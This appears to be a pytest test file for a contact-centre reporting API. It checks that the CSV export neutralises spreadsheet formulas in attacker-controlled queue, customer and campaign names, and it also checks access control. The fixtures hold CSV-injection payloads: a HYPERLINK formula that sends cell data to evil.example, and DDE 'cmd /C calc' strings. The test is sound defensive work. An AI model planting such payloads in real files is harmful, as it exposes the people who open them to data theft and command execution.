"""``GET /api/v1/reports?format=csv``: the report a manager opens in a spreadsheet, one row per queue,
agent, channel, campaign and interval, with attacker-controlled names never evaluated as formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

from engine.reporting import compute

EVIL_QUEUE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_CUSTOMER = "-2+3+cmd|' /C calc'!A0"


def rows() -> list[dict[str, Any]]:
    def r(ts: float, event: str, iid: str | None = None, **fields: Any) -> dict[str, Any]:
        return {"ts": ts, "event": event, "interaction": iid, "fields": fields}

    return [
        r(0, "QueueMemberStatus", Agent="+alice", Status="available"),
        r(1800, "QueueCallerJoin", "i1", Queue=EVIL_QUEUE, Kind="chat"),
        r(1810, "AgentConnect", "i1", Queue=EVIL_QUEUE, Agent="+alice", HoldTime=10),
        r(1810, "QueueMemberStatus", Agent="+alice", Status="busy"),
        r(1870, "AgentComplete", "i1", Queue=EVIL_QUEUE, Agent="+alice", TalkTime=60),
        r(1870, "QueueMemberStatus", Agent="+alice", Status="available"),
        r(1870, "Hangup", "i1", Kind="chat", Customer=EVIL_CUSTOMER, Campaign=EVIL_CAMPAIGN, Answered=1810),
    ]


async def test_reports_export_as_csv_with_every_breakdown_and_formulas_neutralised(console, monkeypatch):
    async def report(since: float, until: float | None = None, **options: Any) -> dict[str, Any]:
        return {"since": since, "until": until, **compute(rows(), until=3600, now=3600).as_json()}

    monkeypatch.setattr(console.engine, "report", report)
    async with await console.bearer("supervisor") as api:
        r = await api.get("/api/v1/reports", params={"format": "csv", "since": "0"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert 'filename="report.csv"' in r.headers["content-disposition"]
        table = list(csv.DictReader(io.StringIO(r.text)))
        by = {(row["breakdown"], row["name"], row["interval_start"]): row for row in table}
        queue = by[("queue", "'" + EVIL_QUEUE, "")]
        assert (queue["offered"], queue["answered"], queue["aht"], queue["service_level"]) == ("1", "1", "60.0", "1.0")
        assert by[("interval", "'" + EVIL_QUEUE, "1970-01-01 00:30:00")]["answered"] == "1"
        agent = by[("agent", "'+alice", "")]
        assert agent["occupancy"] == "0.0167" and agent["state_seconds"] == "available=3540.0;busy=60.0"
        assert by[("channel", "chat", "")]["contacts_answered"] == "1"
        assert by[("campaign", "'" + EVIL_CAMPAIGN, "")]["contacts"] == "1"
        for row in table:  # no cell a spreadsheet would run
            for cell in row.values():
                assert not cell or cell[0] not in "=+-@" or cell.lstrip("+-").replace(".", "", 1).isdigit()
        # JSON stays the default, and the FCR window is a validated parameter
        assert (await api.get("/api/v1/reports")).json()["channels"]["chat"]["contacts"] == 1
        assert (await api.get("/api/v1/reports", params={"fcr_days": "-1"})).status_code == 400
        assert (await api.get("/api/v1/reports", params={"fcr_days": "x"})).status_code == 400
    async with await console.bearer("agent") as api:
        assert (await api.get("/api/v1/reports", params={"format": "csv"})).status_code == 403
